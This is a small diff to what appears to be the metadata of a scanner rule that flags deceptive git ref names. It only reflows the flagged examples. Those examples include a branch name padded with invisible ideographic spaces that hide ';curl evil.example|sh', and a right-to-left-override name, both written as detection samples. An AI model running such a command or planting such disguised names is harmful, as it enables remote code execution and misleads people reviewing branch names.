@@ -13,7 +13,10 @@ export const meta: RuleMeta = {
   remediation: 'delete or rename the ref; print names with escaping (git for-each-ref | cat -A) before trusting them',
   example: {bad: 'main<U+3000 × 30>;curl evil.example|sh', good: 'feature/add-login'},
   examples: {
-    flagged: [{text: `main${'\\u{3000}'.repeat(30)};curl evil.example|sh`, escaped: true}, {text: 'fix\\u{202E}hs.txt', escaped: true}],
+    flagged: [
+      {text: `main${'\\u{3000}'.repeat(30)};curl evil.example|sh`, escaped: true},
+      {text: 'fix\\u{202E}hs.txt', escaped: true},
+    ],
     clean: ['feature/add-login', 'release/2024-q1'],
   },
 }
